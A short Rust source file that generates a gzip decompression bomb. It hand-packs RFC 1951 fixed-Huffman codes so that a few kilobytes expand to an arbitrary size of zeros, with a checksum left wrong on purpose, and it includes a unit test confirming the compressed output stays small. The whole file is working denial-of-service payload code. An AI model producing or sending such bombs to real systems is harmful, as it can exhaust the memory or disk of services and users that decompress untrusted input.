//! A gzip bomb: few bytes that decompress to many.

/// Returns zeros that decompress to about `length` bytes.
///
/// They are a block of fixed Huffman codes (RFC 1951, section 3.2.6) that repeats the previous byte 258 times, over and
/// over. The checksum is wrong, but a decompressor notices that only at the end.
pub fn gzip(length: usize) -> Vec<u8> {
    // RFC 1952, section 2.3: magic number, method, no flags, no time, no extra flags.
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], free: 0 };
    // The last block, with fixed codes.
    bits.push([1, 1, 0]);
    // The literal 0.
    bits.push([0, 0, 1, 1, 0, 0, 0, 0]);
    for _ in 0..length / 258 {
        // The length 258, and the distance 1.
        bits.push([1, 1, 0, 0, 0, 1, 0, 1]);
        bits.push([0; 5]);
    }
    // The end of the block.
    bits.push([0; 7]);
    bits.bytes.extend([0; 8]);
    bits.bytes
}

/// A bit string, filled from the lowest bit of each byte.
struct Bits {
    bytes: Vec<u8>,
    free: u8,
}

impl Bits {
    fn push<const N: usize>(&mut self, bits: [u8; N]) {
        for bit in bits {
            if self.free == 0 {
                self.bytes.push(0);
                self.free = 8;
            }
            *self.bytes.last_mut().unwrap() |= bit << (8 - self.free);
            self.free -= 1;
        }
    }
}

#[test]
fn a_bomb_is_small() {
    let bomb = gzip(10_000_000);
    assert!(bomb.starts_with(&[0x1f, 0x8b]) && bomb.len() < 70_000, "{}", bomb.len());
}
